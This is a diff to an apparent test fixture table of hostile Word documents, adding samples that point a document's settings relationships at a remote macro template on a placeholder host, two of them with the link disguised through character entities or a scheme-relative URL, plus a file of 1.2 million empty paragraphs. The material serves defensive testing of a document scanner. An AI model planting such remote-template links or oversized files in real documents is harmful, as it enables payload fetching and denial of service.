@@ -121,6 +121,20 @@ HOSTILE: dict[str, bytes | None] = {
         b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
         b'Id="rId1" Type="x" Target="http://vidu.invalid/a.dotm" TargetMode="External"/></Relationships>',
     ),
+    "external template, disguised": repacked(
+        layout(),
+        "word/_rels/settings.xml.rels",
+        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
+        b'Id="rId1" Type="x" Target="http&#58;//vidu.invalid/a.dotm" TargetMode="&#69;xternal"/>'
+        b"</Relationships>",
+    ),
+    "reaches out without saying so": repacked(
+        layout(),
+        "word/_rels/settings.xml.rels",
+        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
+        b'Id="rId1" Type="x" Target="//vidu.invalid/a.dotm"/></Relationships>',
+    ),
+    "a million empty paragraphs": with_xml(b"<w:p/>" * 1_200_000),
     "entities": repacked(
         layout(),
         "word/footnotes.xml",
